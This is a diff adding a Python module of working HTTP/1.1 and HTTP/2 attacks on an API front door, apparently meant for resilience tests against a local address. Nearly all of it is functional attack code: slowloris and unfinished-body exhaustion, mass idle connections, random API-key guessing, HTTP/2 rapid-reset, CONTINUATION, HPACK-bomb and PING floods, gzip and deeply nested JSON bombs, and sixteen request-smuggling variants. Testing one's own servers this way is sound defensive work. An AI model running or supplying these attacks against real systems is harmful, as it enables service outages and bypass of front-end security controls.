@@ -1,0 +1,524 @@
+"""Attacks on a front door, each of one process, bounded in connections and in time, against an address of this machine.
+
+Each is a function of a `Target` and of the time at which it ends, and gives what it counted. Bytes are written by hand,
+as no library of HTTP lets one send what these send.
+"""
+
+import json
+import os
+import selectors
+import socket
+import ssl
+import sys
+import time
+from collections import Counter
+from collections.abc import Callable, Generator, Sequence
+from contextlib import contextmanager, suppress
+from dataclasses import dataclass
+
+PATH = "/v1/completions"
+_LIMIT_S = 10
+_MIB = 1024 * 1024
+
+Counts = Counter[str]
+
+
+@dataclass(frozen=True)
+class Target:
+    """A front door: where it listens, what trusts its certificate, the key of a client, and the name of a model."""
+
+    address: str
+    port: int
+    host: str
+    chain: str
+    key: str
+    model: str
+
+    def connect(self, *, alpn: str = "http/1.1", source: int = 0) -> ssl.SSLSocket:
+        """A connection with TLS, from 127.0.0.SOURCE where that is said."""
+        context = ssl.create_default_context(cadata=self.chain)
+        context.set_alpn_protocols([alpn])
+        return context.wrap_socket(self.plain(source), server_hostname=self.host)
+
+    def plain(self, source: int = 0) -> socket.socket:
+        """A connection before any handshake."""
+        found = (f"127.0.0.{source}", 0) if source else None
+        return socket.create_connection((self.address, self.port), timeout=_LIMIT_S, source_address=found)
+
+    def head(self, *headers: str, key: str | None = None, path: str = PATH) -> bytes:
+        """Head of a request with a key: the client's own if none is given."""
+        lines = [
+            f"POST {path} HTTP/1.1",
+            f"host: {self.host}",
+            f"authorization: Bearer {key or self.key}",
+            "content-type: application/json",
+            *headers,
+            "",
+            "",
+        ]
+        return "\r\n".join(lines).encode()
+
+
+Attack = Callable[[Target, float], Counts]
+
+
+@contextmanager
+def _closing(sockets: list[socket.socket]) -> Generator[None]:
+    try:
+        yield
+    finally:
+        for one in sockets:
+            with suppress(OSError):
+                one.close()
+
+
+def _status(answer: bytes) -> str:
+    return answer.split(b" ", 2)[1].decode() if answer.startswith(b"HTTP/1.1 ") else "closed" if not answer else "other"
+
+
+def _answer(one: socket.socket, wait_s: float = 0.0) -> str | None:
+    """Status of what came back, `closed` where the connection ended, None where nothing came."""
+    one.settimeout(max(wait_s, 0.001))
+    try:
+        return _status(one.recv(65536))
+    except (TimeoutError, ssl.SSLWantReadError):
+        return None
+    except OSError:
+        return "closed"
+
+
+def _sent(one: socket.socket, data: bytes) -> bool:
+    """Whether all of it was taken within a second and a half."""
+    one.settimeout(1.5)
+    try:
+        one.sendall(data)
+    except OSError:
+        return False
+    return True
+
+
+def _bodies(target: Target, end_s: float, key: str | None, number: int, *, chunked: bool) -> Counts:
+    """Requests of 31 MiB all but whose last bytes are sent, and then nothing more."""
+    seen, held = Counts(), list[socket.socket]()
+    kind = "transfer-encoding: chunked" if chunked else f"content-length: {31 * _MIB}"
+    piece = b"x" * _MIB
+    framed = b"%x\r\n%s\r\n" % (len(piece), piece) if chunked else piece
+    with _closing(held):
+        while time.monotonic() < end_s:
+            if len(held) >= number:
+                time.sleep(0.2)
+                seen.update(answer for one in held if (answer := _answer(one)))
+                held = [one for one in held if one.fileno() >= 0]
+                continue
+            try:
+                one = target.connect()
+            except OSError:
+                seen["no connection"] += 1
+                continue
+            held.append(one)
+            seen["requests"] += 1
+            taken = _sent(one, target.head(kind, key=key)) and all(
+                time.monotonic() < end_s and _sent(one, framed) for _ in range(30)
+            )
+            seen["whole but for the last MiB"] += taken
+            if answer := _answer(one, 0.05):
+                seen[answer] += 1
+                held.remove(one)
+                one.close()
+    return seen
+
+
+def unfinished_bodies(target: Target, end_s: float) -> Counts:
+    """Bodies of 31 MiB that are never finished, with a valid key."""
+    return _bodies(target, end_s, None, 200, chunked=False)
+
+
+def unfinished_chunked_bodies(target: Target, end_s: float) -> Counts:
+    """The same without a length."""
+    return _bodies(target, end_s, None, 200, chunked=True)
+
+
+def unfinished_bodies_of_strangers(target: Target, end_s: float) -> Counts:
+    """The same with keys that nobody has."""
+    return _bodies(target, end_s, "sk-" + "0" * 40, 200, chunked=False)
+
+
+def slow_headers(target: Target, end_s: float) -> Counts:
+    """Two thousand connections that each send one byte of a request's head in a second."""
+    seen, held = Counts(), list[socket.socket]()
+    with _closing(held):
+        while time.monotonic() < end_s:
+            began_s = time.monotonic()
+            with suppress(OSError):
+                while len(held) < 2000 and time.monotonic() < min(end_s, began_s + 1):
+                    one = target.connect()
+                    one.sendall(b"POST / HTTP/1.1\r\nhost: a\r\nx-slow: ")
+                    held.append(one)
+                    seen["connections"] += 1
+            for one in list(held):
+                if not _sent(one, b"x") or _answer(one) is not None:
+                    seen["ended"] += 1
+                    held.remove(one)
+                    one.close()
+            time.sleep(max(0.0, began_s + 1 - time.monotonic()))
+        seen["open at the end"] = len(held)
+    return seen
+
+
+def _idle(target: Target, end_s: float, number: int, *, encrypted: bool) -> Counts:
+    seen, held = Counts(), list[socket.socket]()
+    with _closing(held):
+        while time.monotonic() < end_s:
+            if len(held) >= number:
+                time.sleep(0.2)
+                continue
+            try:
+                source = 2 + len(held) % 4
+                held.append(target.connect(source=source) if encrypted else target.plain(source))
+                seen["connections"] += 1
+            except OSError as error:
+                seen[f"refused: {type(error).__name__}"] += 1
+                time.sleep(0.01)
+        with selectors.DefaultSelector() as selector:
+            for one in held:
+                selector.register(one, selectors.EVENT_READ)
+            ended = len(selector.select(0))
+        seen["open at the end"] = len(held) - ended
+    return seen
+
+
+def idle_connections(target: Target, end_s: float) -> Counts:
+    """Eighteen thousand connections that send nothing."""
+    return _idle(target, end_s, 18000, encrypted=False)
+
+
+def idle_encrypted_connections(target: Target, end_s: float) -> Counts:
+    """Connections that send nothing after the TLS handshake, as many as one process makes."""
+    return _idle(target, end_s, 18000, encrypted=True)
+
+
+def guessed_keys(target: Target, end_s: float) -> Counts:
+    """Requests with keys by chance, one after the other on ten connections."""
+    seen, held = Counts(), list[socket.socket]()
+    with _closing(held):
+        while time.monotonic() < end_s:
+            with suppress(OSError):
+                while len(held) < 10:
+                    held.append(target.connect())
+            for one in list(held):
+                _sent(one, target.head("content-length: 0", key=f"sk-{os.urandom(24).hex()}"))
+            for one in list(held):
+                answer = _answer(one, 1) or "no answer"
+                seen[answer] += 1
+                if answer in {"closed", "no answer"}:
+                    held.remove(one)
+                    one.close()
+    return seen
+
+
+def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
+    """A frame of HTTP/2 (RFC 9113, section 4.1)."""
+    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
+
+
+_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
+_END_STREAM, _END_HEADERS = 1, 4
+
+
+def _literal(name: str, value: str) -> bytes:
+    """A header that is not indexed (RFC 7541, section 6.2.2)."""
+    return b"\x00" + b"".join(_length(len(text)) + text for text in (name.encode(), value.encode()))
+
+
+def _length(number: int) -> bytes:
+    """An integer with a prefix of seven bits."""
+    if number < 127:
+        return bytes((number,))
+    rest, data = number - 127, bytearray((127,))
+    while rest >= 128:
+        data.append(rest % 128 + 128)
+        rest //= 128
+    return bytes((*data, rest))
+
+
+def _block(target: Target, *more: tuple[str, str]) -> bytes:
+    fields = [
+        (":method", "POST"),
+        (":scheme", "https"),
+        (":path", PATH),
+        (":authority", target.host),
+        ("authorization", f"Bearer {target.key}"),
+        ("content-type", "application/json"),
+        *more,
+    ]
+    return b"".join(_literal(name, value) for name, value in fields)
+
+
+def _http2(target: Target, end_s: float, flood: Callable[[Target, ssl.SSLSocket, float], int]) -> Counts:
+    """Connections one after the other, on each of which frames are sent until it ends."""
+    seen = Counts()
+    while time.monotonic() < end_s:
+        try:
+            with target.connect(alpn="h2") as one:
+                seen["connections"] += 1
+                one.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _frame(_SETTINGS, 0, 0, b""))
+                one.settimeout(1.5)
+                with suppress(OSError):
+                    seen["frames"] += flood(target, one, end_s)
+        except OSError:
+            seen["no connection"] += 1
+            time.sleep(0.01)
+    return seen
+
+
+def _counted(one: ssl.SSLSocket, end_s: float, frames: Callable[[int], bytes], each: int = 1) -> int:
+    number = 0
+    with suppress(OSError):
+        while time.monotonic() < end_s:
+            one.sendall(frames(number))
+            number += each
+            one.settimeout(0.0001)
+            with suppress(TimeoutError, ssl.SSLWantReadError):
+                if not one.recv(65536):
+                    break
+            one.settimeout(1.5)
+    return number
+
+
+def rapid_resets(target: Target, end_s: float) -> Counts:
+    """HTTP/2 streams that are reset as soon as they are opened (CVE-2023-44487)."""
+
+    def flood(target: Target, one: ssl.SSLSocket, end_s: float) -> int:
+        block = _block(target)
+
+        def pairs(number: int) -> bytes:
+            streams = range(2 * number + 1, 2 * number + 101, 2)
+            reset = (8).to_bytes(4, "big")
+            return b"".join(
+                _frame(_HEADERS, _END_HEADERS, stream, block) + _frame(_RESET, 0, stream, reset) for stream in streams
+            )
+
+        return _counted(one, end_s, pairs, 50)
+
+    return _http2(target, end_s, flood)
+
+
+def continuations(target: Target, end_s: float) -> Counts:
+    """HTTP/2 headers that never end (CVE-2024-30255)."""
+
+    def flood(target: Target, one: ssl.SSLSocket, end_s: float) -> int:
+        one.sendall(_frame(_HEADERS, 0, 1, _block(target)))
+        piece = _frame(_CONTINUATION, 0, 1, b"".join(_literal(f"x-{i}", "y" * 100) for i in range(100)))
+        return _counted(one, end_s, lambda _: piece)
+
+    return _http2(target, end_s, flood)
+
+
+def header_bombs(target: Target, end_s: float) -> Counts:
+    """HTTP/2 headers that are indexed once and named four thousand times (CVE-2016-6581's kind)."""
+
+    def flood(target: Target, one: ssl.SSLSocket, end_s: float) -> int:
+        kept = b"\x40" + _length(1) + b"x" + _length(3800) + b"y" * 3800
+        block = _block(target) + kept + b"\xbe" * 4000
+
+        return _counted(one, end_s, lambda i: _frame(_HEADERS, _END_HEADERS | _END_STREAM, 2 * i + 1, block))
+
+    return _http2(target, end_s, flood)
+
+
+def pings(target: Target, end_s: float) -> Counts:
+    """HTTP/2 PING and SETTINGS frames whose answers are not read (CVE-2019-9512, CVE-2019-9515)."""
+
+    def flood(_: Target, one: ssl.SSLSocket, end_s: float) -> int:
+        frames = (_frame(_PING, 0, 0, bytes(8)) + _frame(_SETTINGS, 0, 0, b"")) * 500
+        number = 0
+        with suppress(OSError):
+            while time.monotonic() < end_s:
+                one.sendall(frames)
+                number += 1000
+        return number
+
+    return _http2(target, end_s, flood)
+
+
+def empty_frames(target: Target, end_s: float) -> Counts:
+    """HTTP/2 DATA frames without data (CVE-2019-9518)."""
+
+    def flood(target: Target, one: ssl.SSLSocket, end_s: float) -> int:
+        one.sendall(_frame(_HEADERS, _END_HEADERS, 1, _block(target)))
+        return _counted(one, end_s, lambda _: _frame(_DATA, 0, 1, b"") * 100, 100)
+
+    return _http2(target, end_s, flood)
+
+
+def many_streams(target: Target, end_s: float) -> Counts:
+    """HTTP/2 connections with all the streams that they may have, each with a body that never ends."""
+
+    def flood(target: Target, one: ssl.SSLSocket, end_s: float) -> int:
+        streams = range(1, 201, 2)
+        for stream in streams:
+            one.sendall(_frame(_HEADERS, _END_HEADERS, stream, _block(target, ("content-length", str(31 * _MIB)))))
+        sent = 0
+        with suppress(OSError):
+            while time.monotonic() < end_s:
+                for stream in streams:
+                    one.sendall(_frame(_DATA, 0, stream, b"x" * 600))
+                    sent += 1
+                one.settimeout(0.001)
+                with suppress(TimeoutError, ssl.SSLWantReadError):
+                    if not one.recv(65536):
+                        break
+                one.settimeout(1.5)
+        return sent
+
+    return _http2(target, end_s, flood)
+
+
+def unread_answers(target: Target, end_s: float) -> Counts:
+    """Answers of 16 MiB that nobody reads, on two hundred connections."""
+    seen, held = Counts(), list[socket.socket]()
+    body = json.dumps({"model": target.model, "prompt": "large"}).encode()
+    with _closing(held):
+        while time.monotonic() < end_s:
+            if len(held) >= 200:
+                time.sleep(0.2)
+                continue
+            with suppress(OSError):
+                one = target.connect()
+                held.append(one)
+                seen["requests"] += _sent(one, target.head(f"content-length: {len(body)}") + body)
+    return seen
+
+
+def _posted(target: Target, end_s: float, body: bytes, *headers: str) -> Counts:
+    seen = Counts()
+    while time.monotonic() < end_s:
+        with suppress(OSError), target.connect() as one:
+            seen["requests"] += 1
+            _sent(one, target.head(f"content-length: {len(body)}", *headers) + body)
+            seen[_answer(one, 10) or "no answer"] += 1
+    return seen
+
+
+def compressed_bombs(target: Target, end_s: float) -> Counts:
+    """Bodies of 30 MiB that would be 30 GiB if somebody unpacked them."""
+    import gzip  # noqa: PLC0415 - of this one alone
+
+    packed = gzip.compress(bytes(64 * _MIB), 9)
+    whole = packed * (30 * _MIB // len(packed))
+    return _posted(target, end_s, whole, "content-encoding: gzip")
+
+
+def nested_bodies(target: Target, end_s: float) -> Counts:
+    """JSON of fifteen million lists in each other."""
+    depth = 15 * _MIB
+    return _posted(target, end_s, b'{"a":' + b"[" * depth + b"]" * depth + b',"model":"x"}')
+
+
+def wide_bodies(target: Target, end_s: float) -> Counts:
+    """JSON of two million keys."""
+    keys = b",".join(b'"k%d":{}' % i for i in range(2_000_000))
+    return _posted(target, end_s, b"{" + keys + b',"model":"x"}')
+
+
+def smuggled(target: Target, end_s: float) -> Counts:
+    """Requests whose end can be read in two ways, again and again (RFC 9112, sections 6.3 and 11.2)."""
+    seen = Counts()
+    cases = smuggling_cases(target)
+    while time.monotonic() < end_s:
+        for name, sent in cases.items():
+            with suppress(OSError), target.connect() as one:
+                _sent(one, sent)
+                seen[f"{name}: {_answer(one, 0.3) or 'no answer'}"] += 1
+    return seen
+
+
+def smuggling_cases(target: Target) -> dict[str, bytes]:
+    """Bytes of requests by their name, each with a second request for `/smuggled` that a confused reader would see."""
+    hidden = target.head("content-length: 0", path="/smuggled")
+    inner = json.dumps({"model": target.model, "prompt": "x"}).encode()
+    size = len(inner)
+    chunk = b"%x\r\n%s\r\n0\r\n\r\n" % (size, inner)
+
+    def head(*headers: str) -> bytes:
+        return target.head(*headers)
+
+    return {
+        "CL.TE": head(f"content-length: {len(chunk) + len(hidden)}", "transfer-encoding: chunked") + chunk + hidden,
+        "TE.CL": head("transfer-encoding: chunked", "content-length: 4") + chunk + hidden,
+        "TE.TE": head("transfer-encoding: chunked", "transfer-encoding: identity") + chunk + hidden,
+        "TE with a tab": head("transfer-encoding:\tchunked", "content-length: 4") + chunk + hidden,
+        "TE in another spelling": head("transfer-encoding: xchunked", f"content-length: {size}") + inner + hidden,
+        "TE before a blank": head("transfer-encoding : chunked", f"content-length: {size}") + inner + hidden,
+        "two lengths": head(f"content-length: {size}", f"content-length: {size + len(hidden)}") + inner + hidden,
+        "lengths in a list": head(f"content-length: {size}, {size + len(hidden)}") + inner + hidden,
+        "a length with a sign": head(f"content-length: +{size}") + inner + hidden,
+        "a chunk's size with a sign": head("transfer-encoding: chunked") + b"+" + chunk + hidden,
+        "a chunk's size that overflows": head("transfer-encoding: chunked")
+        + b"1%016x\r\n%s\r\n0\r\n\r\n" % (size, inner)
+        + hidden,
+        "a chunk without CR": head("transfer-encoding: chunked") + chunk.replace(b"\r\n", b"\n") + hidden,
+        "a folded header": head("x-a: b\r\n transfer-encoding: chunked", f"content-length: {size}") + inner + hidden,
+        "a bare CR": head(f"x-a: b\rcontent-length: {size + len(hidden)}", f"content-length: {size}") + inner + hidden,
+        "a zero byte": head("x-a: b\x00c: d", f"content-length: {size}") + inner + hidden,
+        "HTTP/1.0 chunked": head("transfer-encoding: chunked").replace(b"HTTP/1.1", b"HTTP/1.0", 1) + chunk + hidden,
+    }
+
+
+def smuggled_http2(target: Target, end_s: float) -> Counts:
+    """HTTP/2 headers that would be another request in HTTP/1."""
+    cases: Sequence[tuple[str, str]] = (
+        ("x-a", "b\r\ntransfer-encoding: chunked"),
+        ("transfer-encoding", "chunked"),
+        ("x-a: b\r\nx-c", "d"),
+        ("content-length", "0"),
+        ("connection", "transfer-encoding"),
+        ("Host", "other"),
+    )
+
+    def flood(target: Target, one: ssl.SSLSocket, end_s: float) -> int:
+        body = b"0\r\n\r\n" + target.head("content-length: 0", path="/smuggled")
+        sent = 0
+        for i, case in enumerate(cases):
+            one.sendall(_frame(_HEADERS, _END_HEADERS, 2 * i + 1, _block(target, case)))
+            one.sendall(_frame(_DATA, _END_STREAM, 2 * i + 1, body))
+            sent += 1
+            if not one.recv(65536) or time.monotonic() > end_s:
+                break
+        return sent
+
+    return _http2(target, end_s, flood)
+
+
+ATTACKS: tuple[Attack, ...] = (
+    unfinished_bodies,
+    unfinished_chunked_bodies,
+    unfinished_bodies_of_strangers,
+    slow_headers,
+    idle_connections,
+    idle_encrypted_connections,
+    guessed_keys,
+    rapid_resets,
+    continuations,
+    header_bombs,
+    pings,
+    empty_frames,
+    many_streams,
+    unread_answers,
+    compressed_bombs,
+    nested_bodies,
+    wide_bodies,
+    smuggled,
+    smuggled_http2,
+)
+
+
+def main() -> None:
+    """Runs one attack: its name, the target as JSON, and seconds."""
+    name, target, seconds = sys.argv[1:]
+    attack = next(attack for attack in ATTACKS if attack.__name__ == name)
+    print(json.dumps(attack(Target(**json.loads(target)), time.monotonic() + float(seconds))))
+
+
+if __name__ == "__main__":
+    main()
